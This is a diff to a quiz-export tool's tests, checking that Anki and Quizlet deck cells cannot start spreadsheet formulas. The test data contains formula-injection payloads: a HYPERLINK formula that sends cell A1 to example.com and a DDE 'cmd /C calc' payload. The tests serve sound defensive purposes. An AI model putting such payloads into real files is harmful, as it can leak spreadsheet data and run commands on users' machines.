@@ -9,6 +9,7 @@ text); in quizlet.tsv, plain text, a single quote comes first.
 from __future__ import annotations
 
 import csv
+import html
 import io
 
 import pytest
@@ -27,6 +28,7 @@ from quizgen.render.anki_csv import inert_field, row
 from quizgen.render.flashcards import note_guid
 from quizgen.render.quizlet import inert_cell
 from quizgen.text import FORMULA_START
+from quizgen.typography import curly
 
 HYPERLINK = '=HYPERLINK("http://example.com/?"&A1,"Click")'
 FORMULA_BANK = {
@@ -96,9 +98,8 @@ def test_no_cell_of_deck_csv_starts_a_formula(files):
     assert not [cell for cell in cells if starts_a_formula(cell)]
     # The neutralised cells are the ones that would have started one.
     fronts = {r[5]: r[2] for r in rows}
-    assert fronts[note_guid("formula-bank", "link")] == "&#61;HYPERLINK(&quot;http://ex" + (
-        "ample.com/?&quot;&amp;A1,&quot;Click&quot;)"
-    )
+    # Straight quotes print as curly ones (typography), and the text is escaped for HTML.
+    assert fronts[note_guid("formula-bank", "link")] == "&#61;" + html.escape(curly(HYPERLINK)[1:])
     assert fronts[note_guid("formula-bank", "minus")] == "&#45;2+3 is what?"
 
 
@@ -108,8 +109,8 @@ def test_anki_imports_the_same_visible_text(files, tmp_path):
         assert len(log.new) == len(FORMULA_BANK["questions"])
         notes = notes_by_guid(col)
         link = notes[note_guid("formula-bank", "link")]
-        assert plain(link["Front"]) == HYPERLINK
-        assert plain(link["Back"]).startswith("@SUM(1+1)*cmd|' /C calc'!A0")
+        assert plain(link["Front"]) == curly(HYPERLINK)
+        assert plain(link["Back"]).startswith(curly("@SUM(1+1)*cmd|' /C calc'!A0"))
         minus = notes[note_guid("formula-bank", "minus")]
         assert plain(minus["Front"]) == "-2+3 is what?"
         assert plain(minus["Back"]).startswith("-40-40, as written.")
@@ -127,7 +128,7 @@ def test_no_cell_of_quizlet_tsv_starts_a_formula(files):
     assert len(rows) == len(FORMULA_BANK["questions"])
     assert not [cell for r in rows for cell in r if starts_a_formula(cell)]
     terms = dict(rows)
-    assert terms["'" + HYPERLINK] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert terms["'" + curly(HYPERLINK)] == "'" + curly("@SUM(1+1)*cmd|' /C calc'!A0")
     assert terms["'-2+3 is what?"] == "'-40"
     assert terms["'@ the start?"] == "'+ plus"
 
